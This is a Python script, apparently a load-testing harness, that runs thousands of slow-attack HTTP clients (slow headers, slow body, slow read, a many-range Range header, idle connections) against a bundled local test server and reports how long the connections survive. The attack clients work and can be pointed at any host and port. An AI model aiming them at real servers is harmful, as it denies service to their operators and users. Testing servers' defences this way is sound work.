#!/usr/bin/env python3
"""Thousands of clients that mean no good, on one thread, and the application that they attack.

    attackers.py serve PORT
    attackers.py head|body|read|range|connect HOST:PORT --from ADDRESS --count N --every SECONDS

The clients connect as fast as they can, say `open` when all have begun, and send or read a piece
each in turn; nobody begins again. When all have been cut, a line of JSON says how.
"""

import argparse
import asyncio
import collections
import json
import select
import signal
import socket
import sys
import time

HEAD = b"GET /slow/head HTTP/1.1\r\nHost: test\r\n"
BODY = b"POST /slow/body HTTP/1.1\r\nHost: test\r\nContent-Length: 100000\r\n\r\n"
READ = b"GET /slow/read HTTP/1.1\r\nHost: test\r\n\r\n"
# As many ranges as fit into a head that is read at all.
RANGES = b"GET /slow/range HTTP/1.1\r\nHost: test\r\nRange: bytes=0-" \
    + b"".join(b",5-%d" % end for end in range(2_000)) + b"\r\n\r\n"
# More than a small window takes; all of it together must not exhaust the kernel's own memory for
# TCP, which is everybody's.
ANSWER_BYTES = 64_000
# What is begun at once, so that no queue of the kernel overflows.
PENDING = 256

KINDS = {
    "head": (HEAD, b"X-Slow: slow\r\n"), "body": (BODY, b"slowly...."), "read": (READ, b""),
    "range": (RANGES, b""), "connect": (b"", b""),
}


class Attack:
    def __init__(self, kind: str, address: tuple[str, int], source: str, every: float):
        self.kind, self.address, self.source, self.every = kind, address, source, every
        self.first, self.piece = KINDS[kind]
        self.poll = select.epoll()
        self.clients: dict[int, socket.socket] = {}
        self.pending: dict[int, float] = {}
        self.began: dict[int, float] = {}
        self.turns: collections.deque[tuple[float, int]] = collections.deque()
        self.lives: list[float] = []
        self.said: collections.Counter[str] = collections.Counter()
        self.pieces = 0
        self.is_stopped = False

    def stop(self, *_) -> None:
        self.is_stopped = True

    def connect(self) -> None:
        client = socket.socket()
        if self.kind == "read":
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1_024)
        client.setblocking(False)
        client.bind((self.source, 0))
        client.connect_ex(self.address)
        self.clients[client.fileno()] = client
        self.pending[client.fileno()] = time.monotonic()
        self.poll.register(client, select.EPOLLOUT)

    def begin(self, number: int) -> None:
        """It is connected: its first bytes."""
        client, now = self.clients[number], time.monotonic()
        del self.pending[number]
        if client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return self.end(number, "not connected")
        self.began[number] = now
        try:
            client.send(self.first)
        except OSError:
            return self.end(number, "reset")
        # What is not read must not wake anybody.
        listens = select.EPOLLRDHUP if self.kind == "read" else select.EPOLLIN | select.EPOLLRDHUP
        self.poll.modify(client, listens)
        if self.kind in ("head", "body", "read"):
            self.turns.append((now + self.every, number))

    def end(self, number: int, said: str) -> None:
        client = self.clients.pop(number)
        self.pending.pop(number, None)
        if number in self.began:
            self.lives.append(time.monotonic() - self.began.pop(number))
        self.said[said] += 1
        self.poll.unregister(client)
        client.close()

    def hear(self, number: int, events: int) -> None:
        if number in self.pending:
            return self.begin(number)
        client = self.clients[number]
        if self.kind == "read":
            return self.end(number, "cut")
        try:
            text = client.recv(65_536)
        except OSError:
            return self.end(number, "reset")
        if not text:
            return self.end(number, "closed")
        if text.startswith(b"HTTP/1.1 "):
            self.said[text[9:12].decode()] += 1

    def take_turns(self) -> None:
        now = time.monotonic()
        while self.turns and self.turns[0][0] <= now:
            _, number = self.turns.popleft()
            if number not in self.began:
                continue
            try:
                if self.kind == "read":
                    self.clients[number].recv(64)
                else:
                    self.clients[number].send(self.piece)
            except BlockingIOError:
                pass
            except OSError:
                self.end(number, "reset")
                continue
            self.pieces += 1
            self.turns.append((now + self.every, number))

    def run(self, count: int, seconds: float) -> None:
        begun, is_said, deadline = 0, False, time.monotonic() + seconds
        signal.signal(signal.SIGTERM, self.stop)
        while (begun < count or self.clients) and time.monotonic() < deadline \
                and not self.is_stopped:
            while begun < count and len(self.pending) < PENDING:
                self.connect()
                begun += 1
            if begun == count and not self.pending and not is_said:
                is_said = True
                print("open", flush=True)
            for number, events in self.poll.poll(0.02, 1_024):
                if number in self.clients:
                    self.hear(number, events)
            self.take_turns()
        lives = sorted(self.lives) or [0]
        print(json.dumps({
            "left": len(self.clients), "said": self.said, "pieces": self.pieces,
            "shortest": lives[0], "median": lives[len(lives) // 2], "longest": lives[-1]}))


async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Takes a body to its end, and answers at length."""
    try:
        while head := await reader.readuntil(b"\r\n\r\n"):
            if head.startswith(b"POST"):
                while await reader.read(65_536):
                    pass
                return
            size = ANSWER_BYTES if b" /slow/read" in head else 1_000
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size + bytes(size))
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def serve_all(port: int) -> None:
    server = await asyncio.start_server(serve, "127.0.0.1", port, backlog=4_096)
    await server.serve_forever()


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("kind", choices=["serve", *KINDS])
    parser.add_argument("address")
    parser.add_argument("--from", dest="source", default="127.0.0.1")
    parser.add_argument("--count", type=int, default=4_000)
    parser.add_argument("--every", type=float, default=1.0)
    parser.add_argument("--seconds", type=float, default=60)
    arguments = parser.parse_args()
    if arguments.kind == "serve":
        asyncio.run(serve_all(int(arguments.address)))
        return
    host, _, port = arguments.address.rpartition(":")
    attack = Attack(arguments.kind, (host, int(port)), arguments.source, arguments.every)
    attack.run(arguments.count, arguments.seconds)


if __name__ == "__main__":
    sys.exit(main())
